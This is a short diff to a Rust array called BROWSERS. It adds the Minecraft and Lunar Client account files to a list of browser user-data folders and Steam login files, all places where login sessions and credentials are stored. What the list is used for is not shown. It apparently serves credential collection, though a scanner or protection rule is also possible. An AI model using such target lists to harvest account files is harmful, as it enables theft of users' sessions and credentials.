@@ -118,6 +118,9 @@ const BROWSERS: &[&str] = &[
     "vivaldi/user data",
     "microsoft/edge/user data",
     "microsoft edge/user data",
+    "launcher_accounts",
+    "microsoft_accounts.json",
+    ".lunarclient/settings/game/accounts",
     "config/loginusers.vdf",
     "config\\loginusers.vdf",
 ];
